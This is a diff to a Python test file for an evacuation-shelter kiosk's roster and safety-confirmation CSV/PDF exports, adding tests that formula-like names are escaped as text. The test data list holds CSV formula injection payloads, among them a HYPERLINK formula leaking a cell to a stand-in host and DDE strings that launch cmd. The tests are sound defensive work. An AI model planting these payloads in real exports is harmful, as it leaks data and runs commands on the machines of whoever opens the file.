@@ -30,7 +30,8 @@ from kiosk.exports import (
     find_blank_card,
     printed_cards,
 )
-from kiosk.exports.roster import CSV_HEADINGS
+from kiosk.exports.roster import CSV_HEADINGS, encode_csv
+from kiosk.output_files import OutputNotAFile
 from kiosk.records import HouseholdDraft, Needs, PersonDraft
 from kiosk.staff import PermissionDenied
 from kiosk.vocab import ANPI_SCOPE
@@ -374,9 +375,9 @@ def test_a_directory_in_the_way_leaves_no_temp_file_and_the_directory_as_it_was(
 ) -> None:
     in_the_way = out / "roster.pdf"
     in_the_way.mkdir()
-    with pytest.raises(ExportFailed) as caught:
-        export_roster(kiosk.ctx, in_the_way, "pdf")
-    assert caught.value.code == "export_failed"
+    with pytest.raises(OutputNotAFile) as caught:
+        export_roster(kiosk.ctx, in_the_way, "pdf", replace=True)
+    assert caught.value.code == "output_not_a_file"
     assert (sorted(p.name for p in out.iterdir()), list(in_the_way.iterdir())) == (
         ["roster.pdf"],
         [],
@@ -394,7 +395,7 @@ def test_a_read_only_directory_leaves_no_temp_and_no_partial_file(
     locked.chmod(0o500)
     try:
         with pytest.raises(ExportFailed):
-            export_roster(kiosk.ctx, locked / "roster.pdf", "pdf")
+            export_roster(kiosk.ctx, locked / "roster.pdf", "pdf", replace=True)
         with pytest.raises(ExportFailed):
             export_anpi(kiosk.ctx, locked / "anpi.csv", "csv")
         leftovers = sorted(p.name for p in locked.iterdir())
@@ -469,3 +470,38 @@ def test_kiosk_export_through_the_real_command_line(
     assert (result.returncode, result.stderr.startswith("warning: This file holds")) == (0, True)
     assert "髙橋" in pdf_text(target)
     assert (missing.returncode, missing.stdout, missing.stderr.count("\n")) == (1, "", 1)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS, ids=["=", "+", "-", "@", "tab", "cr"])
+def test_a_csv_cell_that_would_start_a_formula_is_written_as_text(formula: str) -> None:
+    body = encode_csv(("氏名", "電話"), [(formula, "000-1111-2222")], "utf-8")
+    rows = list(csv.reader(io.StringIO(body[len(BOM) :].decode("utf-8"), newline="")))
+    assert rows == [["氏名", "電話"], ["'" + formula, "000-1111-2222"]]
+
+
+def test_names_typed_as_formulas_reach_the_roster_and_anpi_csv_as_text(
+    kiosk: Kiosk, out: Path
+) -> None:
+    names = [FORMULAS[0], FORMULAS[1], FORMULAS[3]]
+    ids = [
+        people.add_person(
+            kiosk.ctx, PersonDraft(name=name, kana="ミホン", consent=frozenset({ANPI_SCOPE}))
+        ).id
+        for name in names
+    ]
+    checkin.check_in(kiosk.ctx, ids)
+    for export, target in ((export_roster, out / "roster.csv"), (export_anpi, out / "anpi.csv")):
+        export(kiosk.ctx, target, "csv")
+        text = target.read_bytes()[len(BOM) :].decode("utf-8")
+        cells = {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}
+        assert {"'" + name for name in names} <= cells and not set(names) & cells, export
